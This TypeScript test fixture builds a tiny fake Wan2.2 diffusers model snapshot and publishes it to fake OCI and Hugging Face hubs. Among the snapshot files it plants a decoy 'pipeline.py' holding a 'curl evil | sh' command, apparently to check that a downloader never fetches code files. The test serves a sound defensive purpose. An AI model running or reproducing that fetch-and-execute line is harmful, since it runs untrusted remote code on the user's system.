import { randomBytes } from 'node:crypto';
import { bufferContent } from './content.js';
import { type FakeHuggingFace, gitBlobId } from './fake-hf.js';
import type { FakeOciRegistry, HubFile } from './fake-oci-registry.js';

// The shape of a Wan2.2-I2V-A14B diffusers snapshot, scaled down: real config keys, tiny weights.
export const MODEL_INDEX = {
  _class_name: 'WanImageToVideoPipeline',
  _diffusers_version: '0.35.2',
  boundary_ratio: 0.9,
  expand_timesteps: false,
  image_encoder: [null, null],
  image_processor: [null, null],
  scheduler: ['diffusers', 'UniPCMultistepScheduler'],
  text_encoder: ['transformers', 'UMT5EncoderModel'],
  tokenizer: ['transformers', 'T5TokenizerFast'],
  transformer: ['diffusers', 'WanTransformer3DModel'],
  transformer_2: ['diffusers', 'WanTransformer3DModel'],
  vae: ['diffusers', 'AutoencoderKLWan'],
};
export const TRANSFORMER_CONFIG = {
  _class_name: 'WanTransformer3DModel',
  num_layers: 40,
  num_attention_heads: 40,
  attention_head_dim: 128,
  in_channels: 36,
  out_channels: 16,
  patch_size: [1, 2, 2],
  freq_dim: 256,
  ffn_dim: 13824,
  text_dim: 4096,
  cross_attn_norm: true,
};
export const VAE_CONFIG = { _class_name: 'AutoencoderKLWan', base_dim: 96, z_dim: 16, latent_channels: 16, dim_mult: [1, 2, 4, 4] };

export interface SnapshotFile {
  path: string;
  data: Buffer;
}

export interface SnapshotOptions {
  modelIndex?: unknown;
  transformer?: unknown;
  transformer2?: unknown;
  vae?: unknown;
  /** Weight bytes by path; the defaults are fresh random shards (so two snapshots share nothing unless given the same). */
  weights?: Record<string, Buffer>;
}

const json = (value: unknown): Buffer => Buffer.from(JSON.stringify(value, null, 2));

/** Random bytes of a weight shard. */
export const shard = (size: number): Buffer => randomBytes(size);

export function wanSnapshot(options: SnapshotOptions = {}): SnapshotFile[] {
  const weights = options.weights ?? {
    'transformer/diffusion_pytorch_model.safetensors': shard(3 << 20),
    'transformer_2/diffusion_pytorch_model.safetensors': shard(3 << 20),
    'text_encoder/model.safetensors': shard(2 << 20),
    'vae/diffusion_pytorch_model.safetensors': shard(256 << 10),
  };
  return [
    { path: 'model_index.json', data: json(options.modelIndex ?? MODEL_INDEX) },
    { path: 'scheduler/scheduler_config.json', data: json({ _class_name: 'UniPCMultistepScheduler', num_train_timesteps: 1000 }) },
    { path: 'text_encoder/config.json', data: json({ architectures: ['UMT5EncoderModel'], d_model: 4096 }) },
    { path: 'tokenizer/tokenizer.json', data: json({ version: '1.0' }) },
    { path: 'tokenizer/tokenizer_config.json', data: json({ model_max_length: 512 }) },
    { path: 'tokenizer/special_tokens_map.json', data: json({ eos_token: '</s>' }) },
    { path: 'tokenizer/spiece.model', data: Buffer.from('sentencepiece model bytes') },
    { path: 'transformer/config.json', data: json(options.transformer ?? TRANSFORMER_CONFIG) },
    { path: 'transformer_2/config.json', data: json(options.transformer2 ?? TRANSFORMER_CONFIG) },
    { path: 'vae/config.json', data: json(options.vae ?? VAE_CONFIG) },
    ...Object.entries(weights).map(([path, data]) => ({ path, data })),
    // Never fetched: code, and code hidden where `tokenizer*` would match the whole path.
    { path: 'pipeline.py', data: Buffer.from('import os; os.system("curl evil | sh")\n') },
    { path: 'tokenizer/evil.py', data: Buffer.from('raise SystemExit\n') },
    { path: 'README.md', data: Buffer.from('# a fine-tune\n') },
  ];
}

/** On the fake hub: files of `chunkAbove` bytes or more chunked (chunks of `chunkSize`), the rest plain. */
export async function pushToHub(
  registry: FakeOciRegistry,
  repo: string,
  files: SnapshotFile[],
  chunkAbove = 1 << 20,
  chunkSize = 512 << 10,
  layout: 'chunked-v1' | 'chunked-v2' = 'chunked-v1',
): Promise<string> {
  const hubFiles: HubFile[] = files.map((f) => {
    if (f.data.length < chunkAbove) return { path: f.path, content: bufferContent(f.data) };
    const chunks: number[] = [];
    for (let left = f.data.length; left > 0; left -= chunkSize) chunks.push(Math.min(chunkSize, left));
    return { path: f.path, content: bufferContent(f.data), chunks };
  });
  return registry.push(repo, hubFiles, layout);
}

/** On the fake Hugging Face: weights in LFS, the rest in git. */
export function publishToHf(hf: FakeHuggingFace, repo: string, files: SnapshotFile[]): string {
  return hf.publish(
    repo,
    files.map((f) =>
      f.path.endsWith('.safetensors')
        ? { path: f.path, content: bufferContent(f.data), lfs: true }
        : { path: f.path, content: bufferContent(f.data), lfs: false, blobId: gitBlobId(f.data) },
    ),
  );
}
